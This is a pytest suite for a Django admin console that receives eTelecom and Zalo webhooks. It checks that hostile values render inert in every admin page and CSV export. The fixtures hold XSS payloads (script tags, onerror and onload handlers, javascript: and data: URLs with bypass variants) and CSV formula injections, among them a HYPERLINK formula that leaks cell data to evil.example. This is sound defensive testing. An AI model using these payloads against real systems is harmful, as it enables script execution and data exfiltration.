"""Hostile values that arrive by webhook (script tags, `javascript:` addresses, spreadsheet formulas) are inert in
every admin page and every CSV: escaped as text, never a link, a player's source or a formula.

The values reach the console as eTelecom would send them: a `call_log` event in eTelecom's envelope and an OA
user's message in Zalo's shape, posted to the shop's webhook URL, and an OA and a call permission request as the
syncs store eTelecom's answers (eTelecom's own webhooks carry neither). Then every admin page a superuser can open
(each registered model's list and every stored row's page, the dashboard, the reports) and every CSV (the call
export, each report table, a bulk upload's results) is read and checked."""

import csv
import io
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from django.contrib import admin
from django.urls import reverse
from django.utils import timezone

from etelecom import zns as zns_api
from etelecom_console.reports import REPORTS
from shops.common.links import link, web_url
from shops.models import WebhookEvent
from zalo.models import BulkJob, BulkRow, OfficialAccount
from zalo.services import consent_store

from ..shops.factories import make_shop

SCRIPT = "<script>window.__pwned=1</script>"
TAG = '"><img src=x onerror=window.__pwned=2>'
# For columns of 32 characters or fewer (PostgreSQL refuses longer values; SQLite would keep them).
SHORT_SCRIPT = "<script>__pwned=3</script>"
SHORT_TAG = '"><b onclick=x>'
CALLER = '=HYPERLINK("//x.vn","a")'
JS_URL = "javascript:alert(document.domain)//.wav"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+SUM(1,2)", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
HOSTILE_URLS = [
    JS_URL,
    " javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x.wav",
    "https:alert(1)",
]
SAFE_RECORDING = "https://recordings.example.vn/goi-1.wav"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "poster", "data", "xlink:href", "background"}


class Page(HTMLParser):
    """What a page would run: attributes that hold an address, and any inline event handler."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.addresses, self.handlers = [], []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append((tag, name, value))
            elif name in URL_ATTRIBUTES and value:
                self.addresses.append((tag, name, value))


def scheme_of(address: str) -> str:
    """The scheme a browser would see: it drops whitespace and control characters first."""
    squeezed = "".join(char for char in address if ord(char) > 0x20).lower()
    head = squeezed.split("/", 1)[0]
    return head.split(":", 1)[0] if ":" in head else ""


def assert_inert_html(url: str, response) -> None:
    assert response.status_code == 200, url
    page = response.content.decode()
    assert SCRIPT not in page and SHORT_SCRIPT not in page and "<img src=x" not in page and "<b onclick" not in page, (
        url
    )
    parsed = Page()
    parsed.feed(page)
    assert parsed.handlers == [], url
    bad = [item for item in parsed.addresses if scheme_of(item[2]) not in ("", "http", "https")]
    assert bad == [], url
    policy = dict((directive.split(" ", 1) + [""])[:2] for directive in response["Content-Security-Policy"].split("; "))
    # No inline script nor <style> element anywhere; style attributes only, for the theme (docs/design.md).
    assert policy["script-src"].startswith("'self'") and "unsafe-inline" not in policy["script-src"], url
    assert "unsafe-inline" not in policy["style-src"] and "style-src-elem" not in policy, url


def assert_inert_csv(url: str, response) -> list[list[str]]:
    assert response.status_code == 200, url
    body = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    for row in rows:
        for value in row:
            if value.startswith(FORMULA_START):
                assert value == "-" or value.lstrip("-").replace(".", "", 1).isdigit(), (url, value)
    return rows


def post_event(client, shop, entity: str, event_id: str, data: dict) -> WebhookEvent:
    body = {"id": event_id, "entity": entity, "type": entity, "shop_id": shop.etelecom_id, "data": data}
    response = client.post(f"/webhooks/etelecom/{shop.webhook_secret}/", body, content_type="application/json")
    assert response.status_code == 200, response.content
    return WebhookEvent.objects.get(shop=shop, dedupe_key=event_id)


def post_zalo_event(client, shop, body: dict) -> WebhookEvent:
    response = client.post(f"/webhooks/etelecom/{shop.webhook_secret}/", body, content_type="application/json")
    assert response.status_code == 200, response.content
    return WebhookEvent.objects.filter(shop=shop, kind=body["event_name"]).latest("pk")


@pytest.fixture
def hostile(db, client):
    """A shop whose call, OA and call permission request arrived by webhook carrying hostile values."""
    shop = make_shop(SCRIPT)
    now = timezone.now()
    call = {
        "id": "990000001",
        "started_at": (now - timedelta(minutes=5)).isoformat(),
        "ended_at": now.isoformat(),
        "direction": "in",
        "call_state": "answered",
        "caller": CALLER,
        "callee": SHORT_SCRIPT,
        "user_id": FORMULAS[3],
        "extension_id": SHORT_TAG,
        "duration": 42,
        "recording_urls": [*HOSTILE_URLS, SAFE_RECORDING],
        "note": TAG,
        "external_id": FORMULAS[2],
    }
    oa = {
        "oa_id": "770000001",
        "name": FORMULAS[1] + SCRIPT,
        "description": TAG,
        "avatar": JS_URL,
        "cover": "data:image/svg+xml,<svg onload=alert(1)>",
        "webhook_url": "javascript:alert(2)",
        "status": "Z",
        "current_quality": "<i>LOW</i>",
        "daily_quota": 100,
        "remaining_quota": 40,
    }
    consent = {
        "id": "550000001",
        "oa_id": "770000001",
        "phone": "=1+1",
        "call_type": "<i>audio</i>",
        "reason_code": FORMULAS[3],
        "reply_status": "P",
        "error_message": TAG,
        "created_at": now.isoformat(),
        "updated_at": now.isoformat(),
    }
    stored = OfficialAccount.objects.create(shop=shop, **oa)
    consent_store(stored, zns_api.Consent.from_api(consent))
    message = {
        "event_name": "user_send_text",
        "app_id": "1",
        "sender": {"id": TAG},
        "recipient": {"id": oa["oa_id"]},
        "message": {"msg_id": "m-1", "text": SCRIPT + JS_URL},
        "timestamp": str(int(now.timestamp() * 1000)),
    }
    events = [post_event(client, shop, "call_log", "ev-call", call), post_zalo_event(client, shop, message)]
    assert [event.status for event in events] == [WebhookEvent.Status.PROCESSED] * 2, [e.error for e in events]
    job = BulkJob.objects.create(kind="consent", oa=stored, file_name=f"{SCRIPT}.csv")
    for line, value in enumerate(FORMULAS, start=2):
        # eTelecom's refusal, as its answer's `msg` would carry it into a row's error.
        BulkRow.objects.create(job=job, line=line, phone=value[:32], state=BulkRow.State.FAILED, error=value + SCRIPT)
    return shop


def admin_pages():
    """Every registered model's list and the page of every row stored."""
    for model in admin.site._registry:
        opts = model._meta
        yield reverse(f"admin:{opts.app_label}_{opts.model_name}_changelist")
        for pk in model._default_manager.values_list("pk", flat=True):
            yield reverse(f"admin:{opts.app_label}_{opts.model_name}_change", args=[pk])


def test_hostile_webhook_values_are_inert_in_every_admin_page(hostile, admin_client):
    today = timezone.localdate()
    urls = [reverse("admin:index"), *admin_pages()]
    urls += [f"{reverse(f'admin:report_{name}')}?start={today - timedelta(days=2)}&end={today}" for name in REPORTS]
    urls.append(reverse("admin:zalo_message_add"))
    for url in urls:
        assert_inert_html(url, admin_client.get(url))


def test_the_call_page_plays_only_web_addresses(hostile, admin_client):
    from pbx.models import CallRecord

    call = CallRecord.objects.get(shop=hostile)
    page = admin_client.get(reverse("admin:pbx_callrecord_change", args=[call.pk])).content.decode()
    assert page.count("<audio") == 1 and f'src="{SAFE_RECORDING}"' in page
    listed = admin_client.get(reverse("admin:pbx_callrecord_changelist")).content.decode()
    assert listed.count('<a href="https://recordings.example.vn/') == 1
    assert "javascript:alert(document.domain)//.wav" in listed  # shown, as text


def test_hostile_webhook_values_are_inert_in_every_csv(hostile, admin_client):
    today = timezone.localdate()
    downloads = [reverse("admin:pbx_callrecord_export")]
    job = BulkJob.objects.get(oa__shop=hostile)
    downloads.append(reverse("admin:zalo_bulkjob_results", args=[job.pk]))
    for name in REPORTS:
        page = reverse(f"admin:report_{name}")
        report = admin_client.get(f"{page}?start={today - timedelta(days=2)}&end={today}")
        for table in report.context["tables"]:
            downloads.append(f"{page}?start={today - timedelta(days=2)}&end={today}&export={table['name']}")
    cells = set()
    for url in downloads:
        for row in assert_inert_csv(url, admin_client.get(url)):
            cells.update(row)
    assert {"'" + CALLER, "'" + FORMULAS[3], "'" + FORMULAS[2]} <= cells  # the call: caller, user, external id
    assert "'" + FORMULAS[1] + SCRIPT in cells or any(c.startswith("'" + FORMULAS[1]) for c in cells)  # the OA
    assert {"'" + value + SCRIPT for value in FORMULAS} <= cells  # the bulk upload's errors


@pytest.mark.parametrize("address", HOSTILE_URLS + ["", None, 42, "http://", "https:///evil", "ftp://files.example"])
def test_only_http_and_https_addresses_are_links(address):
    assert web_url(address) == ""
    assert "<a" not in link(address, "▶")


@pytest.mark.parametrize("address", [SAFE_RECORDING, "http://127.0.0.1:8100/recordings/1.wav", "HTTPS://A.VN/x"])
def test_web_addresses_are_links(address):
    assert web_url(address) == address
    assert link(address, "▶", title='"x"') == f'<a href="{address}" title="&quot;x&quot;">▶</a>'
